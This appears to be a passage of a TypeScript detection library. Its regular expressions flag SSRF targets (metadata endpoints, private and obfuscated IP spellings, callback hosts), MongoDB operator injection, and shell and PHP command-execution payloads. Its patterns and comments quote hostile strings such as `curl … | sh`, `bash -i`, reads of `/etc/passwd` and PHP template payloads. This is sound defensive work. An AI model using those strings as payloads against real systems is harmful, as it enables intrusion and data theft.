const LEADING_DOT = /^\.[/\\]/
const DOCUMENTATION_HOST = /^(?:\[2001:0?db8:[0-9a-f:.]{0,40}\]|192\.0\.2\.\d{1,3}|198\.51\.100\.\d{1,3}|203\.0\.113\.\d{1,3}|(?:[\w-]{1,63}\.){0,4}example(?:\.(?:com|org|net))?)$/
/** An address-like run in a cookie header (such headers are judged each time, against the host). */
const ADDRESS = /\d\.\d|0x/
/** Places no one reaches by accident: cloud metadata and the like, in any spelling. */
const METADATA_HOST = /^(?:169\.254\.169\.254|169\.254\.170\.2|100\.100\.100\.200|192\.0\.0\.192|fd00:ec2::254|\[fd00:ec2::254\]|metadata|metadata\.google\.internal|metadata\.goog|instance-data|instance-data\.ec2\.internal|metadata\.azure\.com|metadata\.tencentyun\.com|metadata\.packet\.net|kubernetes\.default(?:\.svc)?(?:\.cluster\.local)?)$/
const PRIVATE_HOST = [
  /^(?:localhost|localhost\.localdomain|ip6-localhost|ip6-loopback|loopback|0|0\.0\.0\.0|\[::\]|\[::1\])$|\.localhost$/,
  /^127\.\d{1,3}\.\d{1,3}\.\d{1,3}$|^10\.\d{1,3}\.\d{1,3}\.\d{1,3}$|^192\.168\.\d{1,3}\.\d{1,3}$|^172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3}$|^169\.254\.\d{1,3}\.\d{1,3}$|^100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.\d{1,3}\.\d{1,3}$|^0\.\d{1,3}\.\d{1,3}\.\d{1,3}$/,
  /^\[(?:0{0,4}:){0,7}:?(?:0{0,4}|0{0,3}1)\]$|^\[(?:0{1,4}:){5}ffff:[0-9a-f.:]{3,40}\]$|^\[::ffff:[0-9a-f.:]{3,40}\]$|^\[f[cd][0-9a-f]{2}:[0-9a-f:]{0,40}\]$|^\[fe80:[0-9a-f:%\w]{0,40}\]$/,
  /(?:^|\.)(?:internal|local|localdomain|intranet|corp|lan|home\.arpa)$/,
]
/**
 * (thirty-sixth round) `local` or `internal` alone as a whole value (`"source": "local"`, `"visibility": "internal"`): an enumeration's
 * word, no host (as no other single label is one); with a scheme (`http://internal/`), a port (`local:8080`), a path or a dot it still
 * names one. (Review: libcurl fetches a bare name as `http://name/`, and a company's search domain may resolve `intranet`, `corp` or
 * `lan`: those stay read.)
 */
const PRIVATE_SUFFIX_ALONE = /^\s{0,4}(?:internal|local)\s{0,4}$/i
/** A slash's hex without its percent sign, between dots or letters (`..2fetc2fpasswd`). */
const PERCENTLESS_SLASH = /(?<=[.a-z0-9])(?:2f|5c)(?=[.a-z])/g
/** A number compared with itself as a condition (`elt(4821=4821,1)`, `case when 4821=4821 then`): the SQL gate's, apart from its words (a back-reference). */
const SELF_COMPARE = /(?:\(|\bwhen\s)\s*\(?(\d{1,12})\s*=\s*\1\s*[),t]/
/** A name with a label that is a private address written with dashes (`127-0-0-1.org.uk`, `10-0-0-1.example.net`), as rebinding services resolve it. */
const DASHED_ADDRESS = /(?:^|\.)(?:127(?:-\d{1,3}){3}|10(?:-\d{1,3}){3}|192-168(?:-\d{1,3}){2}|172-(?:1[6-9]|2\d|3[01])(?:-\d{1,3}){2}|169-254(?:-\d{1,3}){2})\.[a-z]/
/** A host name whose last labels are a dotted address (`shop.example.com.127.0.0.1`). */
const TRAILING_ADDRESS = /^[a-z][\w-]{0,62}(?:\.[\w-]{1,63}){0,8}\.(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})$/
/** Spellings of an address that no one writes by hand: decimal, hex, octal, overflowed octets, shortened. */
const OBFUSCATED_HOST = /^\[?(?:0{0,4}:){0,6}:?ffff:(?:7f|a9fe|c0a8|a0)[0-9a-f:]{0,12}\]?$|^\[?(?:0{1,4}:){5}ffff:(?:127|10|169\.254|192\.168)(?:\.\d{1,3}){1,3}\]?$|^[o0q]{1,2}177\.\d{1,3}\.\d{1,3}\.\d{1,3}$/
/** A host or address alone, maybe with a port and a path (what an app given a host makes a URL of). */
// (twenty-fifth round: after credentials too, `user:pass@127.0.0.1`; a password holds no dot, `http:www.trusted.example@…` is a scheme and a name)
const BARE_HOST = /^\s*(?:[^\s@/:]{1,64}(?::[^\s@/.]{0,64})?@)?(\[[0-9a-f:.]{2,60}\]|[0-9a-fx:.]{3,60}|localhost|[\w-]{1,63}(?:\.[\w-]{1,63}){0,10})(?::\d{1,5}|:[\w+]{1,20})?(?:\/[^\s]*)?\s*$/
/** Enclosed alphanumerics and ideographic dots in a host: ⑯⑨。②⑤④ (no real name is written so). */
const ENCLOSED = /[\u2460-\u24ff\u2776-\u2793\u3002\uff61\uff0e\uff10-\uff19]/
/** A URL handing another protocol's URL to a fetcher: https://a/ssrf.php?url=dict://host:11211/  …?url=file:///etc/passwd */
const HANDED_SCHEME = /[?&=](?:gopher|dict|ldaps?|sftp|tftp|jar|netdoc|phar|expect|file):\/\/[^\s]/
/** (fourteenth round) A host name carrying a metadata address among its labels (`ssrf-169.254.169.254.localdomain.pw`): a rebinding service's. */
// (nineteenth round: and a loopback address as a name's first labels, `127.0.0.1.trafficpeak.stream`, `127.0.0.1.a`: a wildcard
// DNS service's name for it)
const METADATA_IN_NAME = /(?:^|[.-])(?:169[.-]254[.-]169[.-]254|100[.-]100[.-]100[.-]200)(?:[.-]|$)|^127\.\d{1,3}\.\d{1,3}\.\d{1,3}\.[a-z]/
/** A metadata address anywhere in a URL (a redirector's or a proxy's path naming it). */
// (twenty-first round: and a metadata service's own path right after any host, `http://metadata.exoscale.com/latest/meta-data/…`,
// `http://gworker-169.254.0.23/latest/meta-data/instance-id`)
const METADATA_IN_URL = /169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|fd00:ec2::254|^[a-z][\w+.-]{1,20}:\/\/[^/\s]{1,200}\/(?:latest\/(?:meta-data|user-data|dynamic|api\/token|computemetadata)|computemetadata\/v1|metadata\/(?:instance|identity|v1)|openstack\/latest)(?:[/?#]|$)/
/** What makes an authority with userinfo read differently by different parsers: blanks, `#`, `\\`, `&` before its `@`. */
const CONFUSING_AUTHORITY = /[\s#\\&]/
const DOTTED_DECIMAL = /^[1-9]\d{0,5}(?:\.(?:0|[1-9]\d{0,5})){3}$/
/** A dotted-decimal address with each octet wrapped at 256, as the parsers that overflow read it. */
const wrapped = (h: string) => h.split('.').map((l) => Number(l) % 256).join('.')
// (twenty-eighth round: a hex label's leading zeros, `0x000000007f`, as the WHATWG parser and inet_aton read them)
const NUMERIC_HOST = /^(?:0x0{0,24}[0-9a-f]{1,8}|\d{1,24})(?:\.(?:0x0{0,24}[0-9a-f]{1,8}|\d{1,24})){0,3}$/

// (twenty-ninth round: and a decimal fraction, a ratio or a price, `target_cpu_utilization=0.6`, `price_per_image=0.003`; three
// numbers, `webhook_url=11.5.1`, are a shortened address's spelling as before, a version's key aside)
// (forty-first round: and three, a manifest's `"api": "1.0.0"`, Figma's plugins' — `127.0.1`, `10.0.1`, `169.254.43518` still count)
const DECIMAL_HOST = /^\d{1,24}(?:\.\d{1,24}){0,2}$/
const CIDR = /^\d{1,3}(?:\.\d{1,3}){3}\/\d{1,2}$/
const OCTAL_DIGITS = /^[0-7]+$/
/**
 * Whether a number, or two or three dotted ones, read as the address inet_aton makes of them (a lone number's low 32 bits; octal
 * after a leading zero, `017700000001`; `127.1` is 127.0.0.1, `10.0.1` 10.0.0.1), are at least 1.0.0.0 and an internal address.
 */
function internalDecimal(h: string): boolean {
  if (h.length > 40) return false
  // (review of the forty-first round) a part with a leading zero is octal to inet_aton, curl and Node, decimal to Java's InetAddress
  // (`0127.0.1` is 87.0.0.1 to the first, 127.0.0.1 to the second): internal by either reading counts
  return addressRead(h, true) || (LEADING_ZERO_PART.test(h) && addressRead(h, false))
}
const LEADING_ZERO_PART = /(?:^|\.)0\d/
/** `h`'s address as inet_aton makes it (`octal`: a part with a leading zero is octal) or as Java reads it, internal or not. */
function addressRead(h: string, octal: boolean): boolean {
  // inet_aton's shortened form: `a.b` is a.0.0.b (b 24 bits)
  const parts: number[] = []
  for (const p of h.split('.')) {
    const asOctal = octal && p.length > 1 && p.charCodeAt(0) === 48
    if (asOctal && !OCTAL_DIGITS.test(p)) return false
    parts.push(Number(BigInt(asOctal ? `0o${p}` : p) % 4_294_967_296n))
  }
  const last = parts[parts.length - 1]!
  if (parts.slice(0, -1).some((x) => x > 255) || last >= 2 ** (8 * (5 - parts.length))) return false
  const n = parts.length === 1 ? last : parts[0]! * 16_777_216 + (parts.length === 3 ? parts[1]! * 65_536 : 0) + last
  // (three numbers from 0.0.0 on: `0.0.0` is 0.0.0.0, this host to a Linux client)
  return (n >= 16_777_216 || parts.length === 3) && internalAddress(n)
}
/** Whether a 32-bit number, written dotted, is an internal or a metadata address. */
function internalAddress(n: number): boolean {
  const dotted = `${n >>> 24}.${(n >>> 16) & 255}.${(n >>> 8) & 255}.${n & 255}`
  return anyOf(PRIVATE_HOST, dotted) || METADATA_HOST.test(dotted)
}

/**
 * (sixty-second round, the spent hundred-and-fifty-first part's misses) An IPv6 literal carrying an internal IPv4 address in one of the
 * embeddings a translator or an old stack routes by it — 6to4 (`[2002:7f00:0001::]`, 2002::/16, the address in the next 32 bits), NAT64's
 * well-known prefix (`[64:ff9b::7f00:1]`, `[64:ff9b::127.0.0.1]`, 64:ff9b::/96) and the deprecated IPv4-compatible form (`[::127.0.0.1]`,
 * `[::a00:1]`; `[::]` and `[::1]` are PRIVATE_HOST's): what SSRF guards refuse, read as a private host is (the mapped form, `::ffff:`,
 * is PRIVATE_HOST's). Bounded: node's parser reads the literal (src/net/address.ts), at most 45 characters.
 */
function embeddedInternal(host: string): boolean {
  if (host.length > 47 || host.charCodeAt(0) !== 91 || host.charCodeAt(host.length - 1) !== 93) return false
  const words = ipv6Words(host.slice(1, -1))
  if (words === undefined) return false
  let v4: number
  if (words[0] === 0x2002) v4 = words[1]! * 65_536 + words[2]!
  else if (words[0] === 0x64 && words[1] === 0xff9b && words[2] === 0 && words[3] === 0 && words[4] === 0 && words[5] === 0) v4 = words[6]! * 65_536 + words[7]!
  else if (words.slice(0, 6).every((w) => w === 0) && (words[6] !== 0 || words[7]! > 1)) v4 = words[6]! * 65_536 + words[7]!
  else return false
  // (review: `[2002::]`, `[::2]` embed 0.0.0.0/8, no host)
  return v4 >= 16_777_216 && internalAddress(v4)
}

/**
 * An address no one writes by hand: a decimal, hex or octal number (2130706433, 0x7f000001,
 * 0177.0.0.1), a shortened form (127.1), or an octet past 255 (127.0.0.256, 10.0.0.1000).
 */
function obfuscatedAddress(host: string): boolean {
  if (OBFUSCATED_HOST.test(host)) return true
  // a hex number past 32 bits (0x41414141a9fea9fe): parsers that keep its low 32 bits read 169.254.169.254 (thirty-eighth round:
  // only where those bits are an internal address — an Ethereum address, `0x961C8c0B1aaD0c0b10a51FeF6a867E3091BCef17`, is 160 bits
  // of a wallet's or a token's, and its low 32 bits a public address at most, as a decimal number's are judged)
  if (LONG_HEX.test(host)) return internalAddress(Number(BigInt(host) % 4_294_967_296n))
  if (!NUMERIC_HOST.test(host)) return false
  const labels = host.split('.')
  // an octal label with an 8 or a 9 (`087.10.0.1`, a test suite's invalid address) is no address any resolver reads
  for (const l of labels) if (l.length > 1 && l.charCodeAt(0) === 48 && l.charCodeAt(1) !== 120 && (l.includes('8') || l.includes('9'))) return false
  if (labels.length < 4) return true
  for (const l of labels) if (l.startsWith('0x') || (l.length > 1 && l.startsWith('0')) || Number(l) > 255) return true
  return false
}
const OOB_HOST = /(?:^|\.)(?:localtest\.me|localh\.st|lvh\.me|vcap\.me|nip\.io|sslip\.io|xip\.io|traefik\.me|1u\.ms|burpcollaborator\.net|oastify\.com|interact\.sh|oast\.(?:fun|live|me|site|online|pro)|requestbin\.net|dnslog\.cn|ceye\.io|r3dir\.me|rbndr\.us|canarytokens\.(?:com|org|net))$|(?:^|\.)oast\.[a-z][\w-]{0,30}\.[a-z]{2,6}$/
/**
 * (review of the nineteenth round) Of those, the services that record a callback (a collaborator's, a canary's, a DNS
 * log's): what proves a blind injection ran. The names that resolve to loopback or a private address (`lvh.me`,
 * `localtest.me`, `nip.io`, `sslip.io`…) are a developer's local and staging hosts in a page's markup or a curl line;
 * they stay an SSRF target.
 */
const CALLBACK_HOST = /(?:^|\.)(?:burpcollaborator\.net|oastify\.com|interact\.sh|oast\.(?:fun|live|me|site|online|pro)|requestbin\.net|dnslog\.cn|ceye\.io|canarytokens\.(?:com|org|net))$|(?:^|\.)oast\.[a-z][\w-]{0,30}\.[a-z]{2,6}$/
/** Parameter names that say "a URL the server fetches". */
const URL_PARAM = /(?:^|[_.-])(?:url|uri|link|href|src|source|callback|webhook|hook|endpoint|host|target|dest|destination|proxy|feed|rss|image|img|avatar|icon|logo|file|fetch|load|resource|remote|server|domain|site|api|service|address|path|document|doc|download|upload|import|page|location|forward|next|redirect|return|continue|preview|embed|oembed|wsdl|xml|template|report|pdf|html|css|js|uri_list|urls|endpoints)(?:s?$|[_.-])/
/**
 * (twenty-ninth round) A key naming an IP address as data (`ip_address`, `ipv4_address`, a payment terminal's or a login's client
 * address, Stripe's fixtures): a private address there is a record, no target fetched (metadata and spelt addresses stay one,
 * `#internal`)
 */
const IP_ADDRESS_KEY = /(?:^|[_.-])ip(?:v[46])?[_.-]?addr(?:ess)?(?:es)?$/
/** (twenty-fifth round) A key naming a version (`api_version`, `file_format_version`): `10.0.1` there is a version, no shortened address. */
const VERSION_KEY = /version$|(?:^|[_.-])ver$/
/** A name that is a file's or a package's, its extension no word of it (a manifest's `"discord.js": "11.5.1"`). */
const FILE_NAMED_KEY = /[\w-]\.(?:js|css|html|xml|pdf)$/
/** What a whole shell program's own syntax is (`${${(z)x}[1]}`, `${LBUFFER:0:1}`): the rest of RCE judges one. */
// (forty-sixth round: nor cmd.exe run on a command line, `cd tests && start cmd /c npm run serve-test .` in a package's scripts, as `bash -c`
// never was: a whole program's or a command field's own command line may start a shell; what stays is a download or a reverse shell)
const PROGRAM_RCE = RCE.filter((re) => re !== SLEEP_PROBE && re !== ADDRESS_PROBE && re !== PHP_COMPLEX && re !== VARIABLE_SLICE && re !== RCE_CALLS && re !== RFI && re !== PARAMETER_CUTS && re !== CMD_RUN)
/**
 * (thirty-eighth round) A Bicep file's (BICEP_DECLARATION): its strings' `${…}` interpolate its own functions, `'${replace('-..--..-', '.',
 * '-')}'`; PHP's complex syntax with any other function, or its `@` (`${@print(md5(1))}`), is still read, and so is the rest
 */
const BICEP_FUNCTIONS = 'replace|substring|uniquestring|deployment|resourcegroup|subscription|tolower|toupper|format|concat|guid|take|skip|last|first|length|split|join|string|int|json|empty|contains|union|intersection|reference|resourceid|subscriptionresourceid|tenantresourceid|extensionresourceid|managementgroupresourceid|environment|tenant|managementgroup|datetimeadd|datetimefromepoch|datetimetoepoch|utcnow|base64|base64tostring|base64tojson|uri|uricomponent|uricomponenttostring|datauri|datauritostring|trim|padleft|startswith|endswith|indexof|lastindexof|min|max|range|array|bool|coalesce|createarray|createobject|items|filter|map|reduce|sort|toobject|flatten|pickzones|newguid|any|mod|add|sub|mul|div|equals|greater|greaterorequals|less|lessorequals|not|and|or|if|objectkeys|shallowmerge|parsecidr|cidrsubnet|cidrhost|tryget'
// (third review: its arguments plain, or calls of Bicep's own functions with plain arguments — PHP's `trim`, `max` or `join` are Bicep's
// names too, and `${trim(\`touch /tmp/x\`)}` ran the command)
// (sixth review: the whole name, not its end — `array_map(` ends in `map(`, and `${join(array_map('sys'.'tem',[…]))}` ran a command)
const BICEP_CALL = String.raw`(?<![\w$])(?:${BICEP_FUNCTIONS})\(`
// (fourth review: and none of PHP's words that run or stop without parentheses, `${trim(include 'pw.php')}` ran the file)
const PHP_BARE_CONSTRUCT = String.raw`(?![^}\n]{0,300}\b(?:include|include_once|require|require_once|exit|die|new|print|echo|clone|throw|yield|eval)\b)`
// (fifth review: and no brace in them, behind which the construct's word hid, `${trim(/*}*/include '/tmp/pw.php')}` ran the file)
const BICEP_COMPLEX = phpComplex(String.raw`\$\{(?:@|(?!${PHP_BARE_CONSTRUCT}${BICEP_CALL}(?:[^(){}\x60$\n]|${BICEP_CALL}[^(){}\x60$\n]{0,100}\)){0,200}\)\}))`)
const BICEP_RCE = RCE.map((re) => (re === PHP_COMPLEX ? BICEP_COMPLEX : re))
/**
 * (twelfth round) A program's source imports and calls the process APIs it uses (`const cp =
 * require('child_process')`, `subprocess.Popen([sys.executable, "-"], …)`, Java's `ProcessBuilder`): only
 * interpreter one-liners and PHP's sinks are payloads there.
 */
// (twenty-third round: and PHP's complex syntax with any function, `${name()}`, which is Kotlin's, Groovy's and JavaScript's string template calling its own)
const CODE_RCE = RCE.filter((re) => re !== SLEEP_PROBE && re !== ADDRESS_PROBE && re !== RCE_CALLS && re !== RFI && re !== PARAMETER_CUTS && re !== PHP_COMPLEX && !/getruntime|__import__|child_process/.test(re.source))
/**
 * (twenty-eighth round) A Perl program's source (`package Foo;`, `use strict;`) calls `system` and `exec` as Python's calls
 * `subprocess`: its own process calls, not PHP's sinks.
 */
// (review of the twenty-eighth round: not PHP's own sinks, which Perl has not — `passthru`, `shell_exec`, `proc_open`, `pcntl_exec`,
// `eval(base64_decode(…))`, a superglobal handed to any sink — nor a sink handed a probe's command: `use strict;` above a PHP payload
// makes no Perl program of it)
const PERL_FOREIGN_SINK = new RegExp(String.raw`(?<![\w)\]]\.)\b(?:passthru|shell_exec|proc_open|pcntl_exec)\s{0,4}\(\s{0,4}['"$]|\b(?:system|exec|popen)\s{0,4}\(\s{0,4}(?:\$_(?:get|post|request|cookie|server|files)\b|['"]\s{0,4}(?:(?:id|whoami|ifconfig|ipconfig|hostname)\s{0,4}['";|&]|uname[ \t]{1,4}-a|cat[ \t]{1,4}\/etc\/|ls[ \t]{1,4}-la?[ \t]{1,4}\/|(?:ba)?sh[ \t]{1,4}-i|nc(?:at)?[ \t]{1,4}-|(?:curl|wget)[ \t][^'"\n]{1,200}\|[ \t]{0,4}(?:ba)?sh))|` + DECODED_EVAL)
const PERL_CODE_RCE = [...CODE_RCE.filter((re) => re !== CODE_SINK), PERL_FOREIGN_SINK]
const PERL_PROGRAM = /(?:^|\n)[ \t]{0,8}(?:package[ \t]{1,4}[\w:]{1,100}[ \t]{0,4};|use[ \t]{1,4}(?:strict|warnings)\b)/

/**
 * (json22) A glob's extended pattern listing alternatives (`+(spec|test)`, `@(js|ts)`, `!(*.d).ts`, as nx's, bash's extglob and
 * micromatch write them): its `|` separates names, no pipe.
 */
const EXTGLOB = /[?*+@!]\([\w.*-]{0,60}(?:\|[\w.*-]{0,60}){1,20}\)/
const EXTGLOB_ALL = new RegExp(EXTGLOB.source, 'g')
/**
 * (json22) A relative path climbing to a glob pattern (`../../__typings__/**\/*.d.ts`, `../../../packages/*\/test`): a tool's
 * configuration choosing its project's files by name (tsconfig's `include`, babel's `only`); a file read takes no pattern.
 */
const GLOB_CLIMB = /^(?:\.\.\/){1,16}(?![^*]{0,200}\.\.)[\w@.+~\/{},-]{0,200}\*[\w@.+~\/{},*-]{0,200}$/
/**
 * (json22) A menu label's access key: `&` glued to a capitalised word, then words only (`&File`, `&Move document`, `&Flytta dokument`,
 * `&Save As...`), as Windows, Qt and Electron menus and their translation files write them.
 */
const ACCELERATOR = /^&[A-Z\u00c0-\u00de][\p{Ll}]{3,24}(?:[ \t][\p{L}]{1,24}){0,6}(?:\.{3}|\u2026)?$/u
/**
 * (json22) A notebook's shell escape: a line of a cell starting with `!` (IPython runs the rest as a command line, `!wget … && unzip
 * data.zip`), judged as a command field's line is in a document (a command line starting with a program or a tool is the notebook's own).
 */
const SHELL_ESCAPE = /^[ \t]{0,8}!(?![=!])([^\n]{1,2000})$/gm
/**
 * (forty-sixth round's fourth review) a field named for a command line as a whole, or a member of a collection of them (its key the
 * collection's): not `startDate`, `webhookUrl` or `args`, which COMMAND_FIELD's words also find
 */
const COMMAND_NAMED = /^(?:run|command|commands|cmd|script|scripts|shell|exec|entrypoint|tasks|hooks)$/
/** Fields of a document that hold command lines. */
const COMMAND_FIELD = /command|cmd|script(?!ion)|run|exec|shell|hook|entrypoint|args|install|build|start|test|lint|deploy|task/
/** JSON bodies with more distinct strings than this are documents (configurations, manifests), not probes. */
const DOCUMENT_VALUES = 12
const DOCUMENT_KEYS = 10
const DOCUMENT_DEPTH = 4
/** …or this many distinct keys, nested three levels deep */
const NESTED_DOCUMENT_KEYS = 6
/** JSON bodies up to this many bytes are parsed even without a suspicious byte (a few fields; cheap). */
const SMALL_JSON = 256
/**
 * A value longer than this many characters (a body past 64 KiB where insight.maxInspectBytes allows one, a header or a query past it where
 * limits.maxHeaderBytes does) is judged as text in windows of this length, each overlapping the one before by JUDGE_OVERLAP, the time budget
 * read between them: the signatures' cost grows with a value's length (about 0.6 ms a KiB at worst), and one judgement cannot be stopped
 * halfway, so without windows a 1 MiB body held the event loop for most of a second whatever insight.maxInspectTime said. A value of up to
 * 64 KiB — every value the default config gives (bodies cut at 16 KiB, headers within 32 KiB), and every reading bounded by a length
 * below it (an icon of up to 20,000 characters) — is judged whole as before.
 */
export const JUDGE_WINDOW = 64 * 1024
/** what two windows share: longer than any signature's bounded reach (400 characters), so a payload across a window's end is in the next */
export const JUDGE_OVERLAP = 1024
/** Markdown's fence lines (three backticks or tildes opening a line) in `v` from `from` to `to`. */
function countFences(v: string, from: number, to: number): number {
  let n = 0
  for (let i = v.indexOf('\n', from - 1); i !== -1 && i + 3 < to; i = v.indexOf('\n', i + 1)) {
    const c = v.charCodeAt(i + 1)
    if ((c === 96 || c === 126) && v.charCodeAt(i + 2) === c && v.charCodeAt(i + 3) === c) n++
  }
  return from === 0 && (v.startsWith('```') || v.startsWith('~~~')) ? n + 1 : n
}
/**
 * Where the window after the one ending at `end` starts: JUDGE_OVERLAP before it, moved on to the first line break (kept, as a value's own
 * first break is) or else the first blank in the overlap's first half, so that the window opens where a line or a word does — a reading
 * that looks at a value's start (a Kusto query's `| top` stages, a command line) then sees one.
 */
function windowStart(v: string, end: number): number {
  const at = end - JUDGE_OVERLAP
  const limit = at + JUDGE_OVERLAP / 2
  const line = v.indexOf('\n', at)
  if (line !== -1 && line < limit) return line
  for (let i = at; i < limit; i++) {
    const c = v.charCodeAt(i)
    if (c === 32 || c === 9) return i
  }
  return at
}

/** BSON's type names, which MongoDB's `$type` takes (or their numbers) */
const BSON_TYPE = /^(?:double|string|object|array|bindata|undefined|objectid|bool|date|null|regex|dbpointer|javascript|symbol|javascriptwithscope|int|timestamp|long|decimal|minkey|maxkey|number)$/i
/** Whether a `$type` of the document is a number (no string under it) or a BSON type's name. */
function bsonTypeGiven(values: ReadonlyMap<string, string>): boolean {
  let strings = 0
  for (const [v, key] of values) {
    if (key !== '$type') continue
    strings++
    if (BSON_TYPE.test(v)) return true
  }
  return strings === 0
}
/**
 * (forty-fourth round) Whether some object of the document takes `$type` as MongoDB's operator: its keys are operators only, and a
 * `$type` of a BSON type's name or number among them. A design token of the W3C format (`{"$type": "number", "$value": 0.5}`, Open
 * edX Paragon's, Style Dictionary's; a group's `{"$type": "color", "carousel": {…}}`) has a sibling no query takes — MongoDB refuses an
 * unknown operator, and a field's name beside an operator makes the object a value to match. Bounded: MAX_FILTER_NODES objects, 64
 * levels; past them, as before, the document's `$type` counts (fail closed).
 */
/** a BSON type's number written as a string (`"$type": "2"`, which mingo takes) */
const TYPE_NUMBER = /^\d{1,3}$/
/** the W3C Design Tokens format's keywords beside `$type` */
const TOKEN_KEYWORDS = new Set(['$value', '$description', '$extensions', '$deprecated'])
function typeOperatorGiven(doc: unknown, values: ReadonlyMap<string, string>): boolean {
  let nodes = 0
  let found = false
  const walk = (o: unknown, depth: number): boolean => {
    if (o === null || typeof o !== 'object') return true
    if (++nodes > MAX_FILTER_NODES || depth > 64) return false
    if (Array.isArray(o)) {
      for (const x of o) if (!walk(x, depth + 1)) return false
      return true
    }
    const record = o as Record<string, unknown>
    const type = Object.hasOwn(record, '$type') ? record.$type : undefined
    // (fourth review: a sibling only blocks where it is a field's name or a design token's own keyword; an unknown `$` key or `__proto__`
    // is ignored by an in-memory engine — sift's `$options`, mingo's `__proto__` — and still lets `$type` match)
    if (type !== undefined && (typeof type === 'number' || (typeof type === 'string' && (BSON_TYPE.test(type) || TYPE_NUMBER.test(type))) || (typeof type === 'object' && type !== null))) {
      if (Object.keys(record).every((k) => (k.charCodeAt(0) === 36 && !TOKEN_KEYWORDS.has(k)) || k === '__proto__')) found = true
    }
    for (const k in record) if (!walk(record[k], depth + 1)) return false
    return true
  }
  // (a document too large or deep to walk is judged by its values, as before the round)
  return walk(doc, 0) ? found : bsonTypeGiven(values)
}
/** NoSQL (MongoDB-style) operator injection. */
const NOSQL_OPERATORS = new Set(['$ne', '$eq', '$gt', '$gte', '$lt', '$lte', '$in', '$nin', '$regex', '$where', '$exists', '$or', '$and', '$not', '$nor', '$expr', '$function', '$accumulator', '$elemmatch', '$all', '$size', '$type', '$mod', '$text', '$jsonschema', '$lookup',
  // (sixteenth round) code run by the server (`{"$code": "function() {…}"}`, `$js`, `$func`; not `$eval`, a JSON-logic document's own operator) and update operators (`}, {"$set": {"role": "admin"}}`)
  '$code', '$codewscope', '$js', '$func', '$set', '$unset', '$rename', '$regexmatch',
  // (nineteenth round) the other update operators (`{"$push": {"roles": "admin"}}`, `$currentDate`)
  '$push', '$pull', '$pullall', '$inc', '$addtoset', '$pop', '$currentdate', '$mul', '$setoninsert',
  // (twenty-fifth round) the geospatial operators (`{"loc": {"$near": …}}`) and Sequelize's string operators (`{"username": {"$like": "%"}}`)
  '$near', '$nearsphere', '$geowithin', '$geointersects', '$within', '$like', '$ilike', '$notlike',
  // (forty-fourth round's fourth review) the bitwise query operators (`{"pin": {"$bitsAllClear": 0}}` matches every numeric pin)
  '$bitsallclear', '$bitsallset', '$bitsanyclear', '$bitsanyset'])
// not `$comment`: a query's comment changes nothing it matches, and it is a JSON Schema keyword (`$schema` documents carry it)
const NOSQLI = [
  // (sixty-second round, the spent hundred-and-forty-third part's miss: and `$jsonSchema`, whose `type` and `pattern` clauses read a
  // field's type or text a test at a time, `[$jsonSchema][properties][password][pattern]=^a`; second look: a Markdown link naming one,
  // `[$regex](https://…)`, is read as before — qs and PHP's parse_str take `user[$ne](=1` for the operator, ignoring what follows `]`)
  /\[\s*\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|not|nor|expr|function|elemmatch|all|size|type|mod|text|jsonschema|bitsallclear|bitsallset|bitsanyclear|bitsanyset)\s*\]/,
  // (twenty-fifth round: and the update and geospatial operators, `{"$set": {"role": "admin"}}`, `{"$near": …}`, and Sequelize's
  // `$like`; not `$eval`, JSON-logic's own, nor Extended JSON's type wrappers, `$oid`, `$date`, `$binary`, nor JSON Schema's `$comment`)
  /(?:^|['"{,])\s*\$(?:ne|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|nor|expr|function|accumulator|elemmatch|match|lookup|group|project|unwind|facet|unionwith|set|unset|inc|push|pull|pullall|addtoset|rename|setoninsert|geowithin|geointersects|near|nearsphere|like|ilike|notlike|bitsallclear|bitsallset|bitsanyclear|bitsanyset)['"]?\s*:/,
  // (thirty-second round: `sleep(…)` as a known library's method or awaited on its line, `Thread.sleep(1000);`, `time.sleep(5);`,
  // `await sleep(100);`, is a program's pause, not the global the database's shell gives `$where`; review: not any receiver,
  // `(function(){return this})().sleep(5000)` reaches that global, nor `await` before a line break)
  // (forty-fifth round: a tautology's second operand, unquoted, is no path's head, FTXUI's `|| event == Event::Character('l')` read in
  // lower case: `x == x::y` compares nothing to itself in JavaScript, where `::` is no operator; review: a quoted one is a string,
  // `|| 1!='1::'`)
  // (forty-seventh round: nor JavaScript's test for NaN, a name unquoted strictly unequal to itself, `a!==a && b!==b`, fast-deep-equal's
  // and lodash's — false for any other value, so no tautology; a quoted operand on either side is read as before, `'a'!=='a`,
  // `1!=='1::'`, and so is `NaN!==NaN`, always true (review))
  /['"]\s{0,10};\s{0,10}return(?:\s{1,10}|\s{0,4}\(\s{0,4})(?:true|1|this|db\.|['"])|(?:^|[;'"])\s{0,10}\d{1,6}\s{0,10};\s{0,10}return\s{1,10}(?:true|1|this)\b|^\s{0,10};\s{0,10}return\s{1,10}(?:true|false|1|0)\s{0,10};?\s{0,10}(?:\/\/[^\n]{0,40})?$|(?:\|\||&&)\s{0,10}\({0,2}\s{0,4}(['"]?)(\w{1,10})\1\s{0,10}(?:!==(?=\s{0,10}['"])|!==(?<=['"]\s{0,10}!==)|!==(?<=nan\s{0,10}!==)|!=(?!=)|==?=?)\s{0,10}(['"]?)\2(?![\w$.[(])(?!(?<=(?:\s|=)\w{1,10})::)|\bthis\s*\.\s*\w{1,40}\s*\.\s*match\s*\(|\bdb\s*\.\s*(?:getcollectionnames|\w{1,40}\s*\.\s*(?:find|drop|remove|insert|mapreduce))\s*\(|['"](?<!['"][^'"\n]{0,80}['"])\s*&&\s*this\s*\.|['"]\s*;\s*sleep\s*\(\s*\d+\s*\)|\bsleep(?<!(?:\b(?:thread|time|timeunit\.\w{1,20}|asyncio|utilities|systemclock|task)[ \t]{0,4}\.[ \t]{0,4}|\bawait[ 